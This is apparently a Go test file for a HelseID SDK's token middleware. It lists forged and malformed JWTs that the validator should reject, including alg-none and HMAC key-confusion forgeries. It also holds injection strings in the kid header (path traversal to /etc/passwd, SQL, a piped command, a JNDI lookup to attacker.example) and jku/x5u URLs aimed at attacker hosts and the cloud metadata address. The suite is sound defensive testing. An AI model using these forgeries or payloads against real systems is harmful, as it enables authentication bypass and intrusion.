package middleware_test

import (
	"crypto"
	"fmt"
	"strings"

	"github.com/helseid-go/sdk/helseid/helseidtest/mint"
	"github.com/helseid-go/sdk/internal/jose"
)

// text is an attack with this text as the token.
func text(token string) func(*world) string { return func(*world) string { return token } }

// mangled is a good token after a change to its text.
func mangled(change func(header, payload, signature string) string) func(*world) string {
	return func(w *world) string {
		parts := strings.Split(w.token(nil, nil), ".")
		return change(parts[0], parts[1], parts[2])
	}
}

func tokenFormatAttacks() []attack {
	const malformed = "token_malformed"
	table := []attack{
		badToken("T146 garbage", malformed, text("$%#")),
		badToken("a word", malformed, text("undefined")),
		badToken("a refresh token", malformed, text("C7E5A1F0D3B94B0E8A1C2D3E4F506172-1")),
		badToken("a refresh token with dots", malformed, text("v1.MRrHPfYpGvnLqk.T0aXh8")),
		badToken("two dots only", malformed, text("..")),
		badToken("one segment", malformed, mangled(func(h, _, _ string) string { return h })),
		badToken("two segments", malformed, mangled(func(h, p, _ string) string { return h + "." + p })),
		badToken("four segments", malformed, mangled(func(h, p, s string) string { return h + "." + p + "." + s + "." + s })),
		badToken("five segments, as a JWE has", malformed, mangled(func(h, p, s string) string { return strings.Join([]string{h, p, s, s, s}, ".") })),
		badToken("a dot too many at the end", malformed, mangled(func(h, p, s string) string { return h + "." + p + "." + s + "." })),
		badToken("detached payload", malformed, mangled(func(h, _, s string) string { return h + ".." + s })),
		badToken("null signature", malformed, mangled(func(h, p, _ string) string { return h + "." + p + "." })),
		badToken("no header", malformed, mangled(func(_, p, s string) string { return "." + p + "." + s })),
		badToken("quoted", malformed, mangled(func(h, p, s string) string { return `"` + h + "." + p + "." + s + `"` })),
		badToken("two tokens", malformed, mangled(func(h, p, s string) string { return h + "." + p + "." + s + " " + h + "." + p + "." + s })),
		badToken("two tokens with a comma", malformed, mangled(func(h, p, s string) string { return h + "." + p + "." + s + "," + h + "." + p + "." + s })),
		badToken("JSON serialisation, flattened", malformed, mangled(func(h, p, s string) string {
			return fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, p, h, s)
		})),
		badToken("JSON serialisation, general", malformed, mangled(func(h, p, s string) string {
			return fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, p, h, s)
		})),
		badToken("JSON serialisation, several signatures", malformed, mangled(func(h, p, s string) string {
			return fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":"e30","signature":""},{"protected":%q,"signature":%q}]}`, p, h, s)
		})),
		badToken("JSON serialisation, unprotected header", malformed, mangled(func(_, p, s string) string {
			return fmt.Sprintf(`{"payload":%q,"header":{"alg":"RS256","kid":"rs256"},"signature":%q}`, p, s)
		})),
		badToken("polyglot of both serialisations", malformed, mangled(func(h, p, s string) string {
			return fmt.Sprintf(`{"x":"%s.%s.%s","payload":%q,"protected":%q,"signature":%q}`, h, p, s, p, h, s)
		})),
		badToken("polyglot with two dots", malformed, mangled(func(h, p, s string) string {
			return fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q,"a":".","b":"."}`, h, p, s)
		})),

		badToken("padded header", malformed, mangled(func(h, p, s string) string { return h + "=." + p + "." + s })),
		badToken("padded payload", malformed, mangled(func(h, p, s string) string { return h + "." + p + "==." + s })),
		badToken("padded signature", malformed, mangled(func(h, p, s string) string { return h + "." + p + "." + s + "==" })),
		badToken("line feed in the header", malformed, mangled(func(h, p, s string) string { return h[:4] + "\n" + h[4:] + "." + p + "." + s })),
		badToken("line break in the payload", malformed, mangled(func(h, p, s string) string { return h + "." + p[:8] + "\r\n" + p[8:] + "." + s })),
		badToken("line feed in the signature", malformed, mangled(func(h, p, s string) string { return h + "." + p + "." + s[:8] + "\n" + s[8:] })),
		badToken("carriage return after the signature", malformed, mangled(func(h, p, s string) string { return h + "." + p + "." + s + "\r" })),
		badToken("space in the payload", malformed, mangled(func(h, p, s string) string { return h + "." + p[:8] + " " + p[8:] + "." + s })),
		badToken("tab in the payload", malformed, mangled(func(h, p, s string) string { return h + "." + p[:8] + "\t" + p[8:] + "." + s })),
		badToken("NUL in the payload", malformed, mangled(func(h, p, s string) string { return h + "." + p[:8] + "\x00" + p[8:] + "." + s })),
		badToken("percent-encoded", malformed, mangled(func(h, p, s string) string { return h + "%2E" + p + "%2E" + s })),
		badToken("standard alphabet", malformed, mangled(func(h, p, s string) string {
			return h + "." + p + ".+/" + s[2:]
		})),
		badToken("bits left over in the signature", malformed, mangled(func(h, p, s string) string {
			// 2048 bits leave four unused ones in the last character.
			const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
			last := strings.IndexByte(alphabet, s[len(s)-1])
			return h + "." + p + "." + s[:len(s)-1] + string(alphabet[last|1])
		})),

		badToken("20 KiB", "token_too_long", text(strings.Repeat("A", 20<<10))),
		badToken("one byte too long", "token_too_long", func(w *world) string { return w.token(nil, longerThan(16<<10)) }),
		badToken("a million dots", "token_too_long", text(strings.Repeat(".", 1<<20))),

		badToken("an ID token", "token_typ", func(w *world) string {
			return w.server.Token(mint.Clinician(), mint.Header("typ", "JWT"), mint.Claim("nonce", "n"), mint.Claim("at_hash", "h"))
		}),
		badToken("a client assertion", "token_typ", func(w *world) string {
			return w.token(with("typ", `"client-authentication+jwt"`), with("iss", `"the-client"`))
		}),
		badToken("a DPoP proof", "token_typ", func(w *world) string { return w.proof("", nil, nil) }),
	}
	for name, payload := range map[string]string{
		"an array":                     `[{"iss":"x"}]`,
		"a string":                     `"iss"`,
		"a number":                     `1`,
		"null":                         `null`,
		"empty":                        ``,
		"white space":                  ` `,
		"two objects":                  `{"iss":"x"}{"iss":"y"}`,
		"text after the object":        `{"iss":"x"} x`,
		"cut off":                      `{"iss":"x"`,
		"single quotes":                `{'iss':'x'}`,
		"a comment":                    `{"iss":"x"/* */}`,
		"a trailing comma":             `{"iss":"x",}`,
		"NaN":                          `{"exp":NaN}`,
		"a leading zero":               `{"exp":01}`,
		"a plus sign":                  `{"exp":+1}`,
		"a byte order mark":            "\ufeff{}",
		"not UTF-8":                    "{\"iss\":\"\xff\"}",
		"half a surrogate pair":        `{"iss":"\ud800"}`,
		"a control character":          "{\"iss\":\"a\x01\"}",
		"nested 40 deep":               strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40),
		"arrays nested 5000 deep":      `{"a":` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + "}",
		"gzip":                         "\x1f\x8b\x08\x00",
		"a base64 object":              b64([]byte(`{"iss":"x"}`)),
		"the word true":                `true`,
		"a bad escape":                 `{"iss":"\x41"}`,
		"nothing but an opening brace": `{`,
	} {
		table = append(table,
			badToken("payload: "+name, malformed, func(w *world) string { return w.token(nil, entirely(payload)) }),
			badToken("header: "+name, malformed, func(w *world) string { return w.token(entirely(payload), nil) }),
		)
	}
	return table
}

// longerThan makes a token just longer than this many bytes by adding a claim.
func longerThan(size int) edit {
	return func(claims string) string {
		const rest = 500 // header and signature are less
		return also(`"filler":"` + strings.Repeat("x", size*3/4-len(claims)-rest/2) + strings.Repeat("y", rest) + `"`)(claims)
	}
}

// hmacAttacks sign with a secret that the attacker knows: public data, or the empty
// secret.
func hmacAttacks() []attack {
	secrets := map[string]func(f *forge) []byte{
		"the public key as PEM (PKIX)":      func(f *forge) []byte { return publicPEM(f, "PUBLIC KEY") },
		"the public key as PEM (PKCS#1)":    func(f *forge) []byte { return publicPEM(f, "RSA PUBLIC KEY") },
		"the public key as PEM, trimmed":    func(f *forge) []byte { return []byte(strings.TrimSpace(string(publicPEM(f, "PUBLIC KEY")))) },
		"the public key as DER":             func(f *forge) []byte { return publicDER(f) },
		"the public key as JWK":             func(f *forge) []byte { return []byte("{" + rsaMembers(&f.rsa.PublicKey) + "}") },
		"the modulus":                       func(f *forge) []byte { return f.rsa.N.Bytes() },
		"the modulus in base64url":          func(f *forge) []byte { return []byte(b64(f.rsa.N.Bytes())) },
		"nothing":                           func(*forge) []byte { return nil },
		"the word secret":                   func(*forge) []byte { return []byte("secret") },
		"the key id":                        func(*forge) []byte { return []byte("rs256") },
		"the secret in the key set (oct)":   func(*forge) []byte { return []byte("secret") },
		"the issuer":                        func(*forge) []byte { return []byte("https://helseid.test") },
		"32 zero bytes":                     func(*forge) []byte { return make([]byte, 32) },
		"the example key of RFC 7515 (A.1)": func(*forge) []byte { return []byte("your-256-bit-secret") },
	}
	var table []attack
	for name, secret := range secrets {
		for alg, hash := range map[string]crypto.Hash{"HS256": crypto.SHA256, "HS384": crypto.SHA384, "HS512": crypto.SHA512} {
			kid := "rs256"
			if strings.Contains(name, "oct") {
				kid = "bad-oct"
			}
			if alg != "HS256" && !strings.Contains(name, "PKIX") {
				continue
			}
			table = append(table, badToken("T139 "+alg+" with "+name, "token_alg", func(w *world) string {
				header := both(with("alg", `"`+alg+`"`), with("kid", `"`+kid+`"`))
				return compact(header(w.tokenHeader()), w.tokenClaims(), hmacSigner(hash, secret(theForge())))
			}))
		}
	}
	return table
}

func tokenHeaderAttacks() []attack {
	attacker := func(w *world) *jose.Key { return newKey(w, theForge().other, jose.RS256) }
	inline := func(w *world, header edit) string {
		return compact(header(w.tokenHeader()), w.tokenClaims(), pkcs1(theForge().other, crypto.SHA256))
	}
	table := hmacAttacks()
	for _, alg := range []string{`"none"`, `"None"`, `"NONE"`, `"nOnE"`, `"none "`, `" none"`, `"no\u006ee"`, `""`, `null`, `0`, `true`, `[]`, `["RS256"]`, `{"alg":"RS256"}`,
		`"rs256"`, `"RS256 "`, `"RS-256"`, `"RSA-SHA256"`, `"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"`, `"RS1"`, `"ES256K"`, `"EdDSA"`, `"dir"`, `"A128KW"`, `"RSA-OAEP"`} {
		table = append(table, badToken("T139 alg "+alg, "token_alg", func(w *world) string {
			return w.token(with("alg", alg), nil)
		}))
	}
	for _, alg := range []string{"none", "None", "nOnE"} {
		table = append(table,
			badToken("alg "+alg+" without signature", "token_malformed", func(w *world) string {
				return compact(with("alg", quote(alg))(w.tokenHeader()), w.tokenClaims(), constant(nil))
			}),
			badToken("alg "+alg+" with a byte as signature", "token_alg", func(w *world) string {
				return compact(with("alg", quote(alg))(w.tokenHeader()), w.tokenClaims(), constant([]byte{0}))
			}))
	}
	for _, typ := range []string{"", `null`, `""`, `1`, `["at+jwt"]`, `"JWT"`, `"jwt"`, `"application/jwt"`, `"dpop+jwt"`, `"idtoken"`, `"logout+jwt"`, `"secevent+jwt"`,
		`"at+jwt "`, `"at jwt"`, `"application/application/at+jwt"`, `"x/at+jwt"`, `"at+jwt;v=1"`, `"appl\u0130cation/at+jwt"`} {
		table = append(table, badHeader("typ "+typ, "token_typ", with("typ", typ)))
	}
	for name, kid := range map[string]string{
		"path traversal":      `"../../../../../../dev/null"`,
		"a file":              `"/etc/passwd"`,
		"SQL":                 `"x' UNION SELECT 'secret' -- "`,
		"a command":           `"rs256|/usr/bin/id"`,
		"template":            `"${jndi:ldap://attacker.example/a}"`,
		"a URL":               `"https://attacker.example/jwks"`,
		"a NUL after it":      `"rs256\u0000"`,
		"a NUL alone":         `"\u0000"`,
		"a line break":        `"rs256\r\nSet-Cookie: a=b"`,
		"other case":          `"RS256"`,
		"a space after it":    `"rs256 "`,
		"of 256 characters":   `"` + strings.Repeat("k", 256) + `"`,
		"an identity number":  `"06828399789"`,
		"of no published key": `"rs256-2"`,
	} {
		table = append(table, badHeader("kid: "+name, "token_unknown_key", with("kid", kid)))
	}
	for name, kid := range map[string]string{
		"missing": "", "null": `null`, "empty": `""`, "a number": `1`, "true": `true`, "an array": `["rs256"]`, "an object": `{"kid":"rs256"}`,
		"of 257 characters": `"` + strings.Repeat("k", 257) + `"`, "of 4000 characters": `"` + strings.Repeat("k", 4000) + `"`,
	} {
		a := badHeader("kid: "+name, "token_unknown_key", with("kid", kid))
		a.fetches = 0
		table = append(table, a)
	}
	table = append(table,
		badToken("the attacker's key as jwk, under a known kid", "token_signature", func(w *world) string {
			return inline(w, also(`"jwk":`+attacker(w).Public().JWK()))
		}),
		badToken("the attacker's key as jwk, under an unknown kid", "token_unknown_key", func(w *world) string {
			return inline(w, both(with("kid", `"mine"`), also(`"jwk":`+attacker(w).Public().JWK())))
		}),
		badToken("the DPoP key as jwk", "token_alg", func(w *world) string {
			token, err := w.key.SignRaw(w.Context(), []byte(both(with("alg", `"ES256"`), also(`"jwk":`+w.key.Public().JWK()))(w.tokenHeader())), []byte(w.tokenClaims()))
			if err != nil {
				w.Fatal(err)
			}
			return token
		}),
	)
	for _, member := range []string{"jku", "x5u"} {
		for _, url := range []string{"https://attacker.example/jwks", "http://169.254.169.254/latest", "file:///etc/passwd", "https://helseid.test@attacker.example/"} {
			table = append(table,
				badToken(member+" "+url+" under a known kid", "token_signature", func(w *world) string {
					return inline(w, also(fmt.Sprintf("%q:%q", member, url)))
				}),
				badToken(member+" "+url+" under an unknown kid", "token_unknown_key", func(w *world) string {
					return inline(w, both(with("kid", `"mine"`), also(fmt.Sprintf("%q:%q", member, url))))
				}))
		}
	}
	table = append(table,
		badToken("x5c", "token_signature", func(w *world) string {
			return inline(w, also(`"x5c":["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"],"x5t":"AAAA","x5t#S256":"AAAA"`))
		}),
		badHeader("crit with an unknown name", "token_malformed", also(`"crit":["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true`)),
		badHeader("b64 without crit", "token_malformed", also(`"b64":true`)),
		badHeader("b64 false without crit", "token_malformed", also(`"b64":false`)),
		badHeader("crit with b64", "token_malformed", also(`"crit":["b64"],"b64":false`)),
		badHeader("crit with exp", "token_malformed", also(`"crit":["exp"],"exp":1`)),
		badHeader("crit empty", "token_malformed", also(`"crit":[]`)),
		badHeader("crit null", "token_malformed", also(`"crit":null`)),
		badHeader("crit a text", "token_malformed", also(`"crit":"exp"`)),
		badToken("b64 false: the payload as it is", "token_malformed", func(w *world) string {
			header := b64([]byte(also(`"b64":false`)(w.tokenHeader())))
			payload := strings.ReplaceAll(w.tokenClaims(), ".", " ")
			return header + "." + payload + "." + b64(pkcs1(theForge().rsa, crypto.SHA256)([]byte(header+"."+payload)))
		}),
		badToken("b64 false: signed unencoded", "token_malformed", func(w *world) string {
			header := b64([]byte(also(`"b64":false`)(w.tokenHeader())))
			payload := w.tokenClaims()
			return header + "." + b64([]byte(payload)) + "." + b64(pkcs1(theForge().rsa, crypto.SHA256)([]byte(header+"."+payload)))
		}),
		badHeader("duplicate alg", "token_malformed", also(`"alg":"none"`)),
		badHeader("duplicate alg, the same", "token_malformed", also(`"alg":"RS256"`)),
		badHeader("duplicate kid", "token_malformed", also(`"kid":"rs256"`)),
		badHeader("duplicate typ, escaped", "token_malformed", also(`"\u0074yp":"at+jwt"`)),
		badHeader("duplicate in an object", "token_malformed", also(`"x":{"a":1,"a":2}`)),
		badHeader("ALG in place of alg", "token_alg", replace(`"alg"`, `"ALG"`)),
		badHeader("Typ in place of typ", "token_typ", replace(`"typ"`, `"Typ"`)),
	)
	folded := badHeader("KID in place of kid", "token_unknown_key", replace(`"kid"`, `"KID"`))
	folded.fetches = 0
	return append(table, folded)
}
